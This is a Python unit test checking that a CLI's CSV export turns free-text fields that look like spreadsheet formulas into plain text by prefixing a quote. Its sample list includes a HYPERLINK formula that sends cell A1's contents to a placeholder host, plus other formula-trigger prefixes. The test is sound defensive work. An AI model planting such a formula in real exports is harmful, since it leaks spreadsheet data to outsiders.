"""CSV exports opened in Excel: free text someone typed (a cancellation reason in an agency's
inbox, a subject in the access log: tests/unit/test_access_log_output.py) that starts like a
formula is shown as text, never run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from ops.cli._output import Format, emit

TYPED = [
    '=HYPERLINK("https://example.invalid/?"&A1,"試験")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("typed", TYPED)
def test_a_reason_that_starts_like_a_formula_is_exported_as_text(
    typed: str, capsysbinary: Any
) -> None:
    record = {"referral_id": "5f1c0c1e-0000-4000-8000-000000000001", "status_reason": typed}
    emit(Format.csv, [record, {"status_reason": "架空の理由"}], ["referral_id", "status_reason"])
    rows = _rows(capsysbinary.readouterr().out.decode("utf-8"))
    assert rows[0]["status_reason"] == "'" + typed
    assert rows[1]["status_reason"] == "架空の理由"  # ordinary text is untouched
    assert rows[0]["referral_id"] == record["referral_id"]
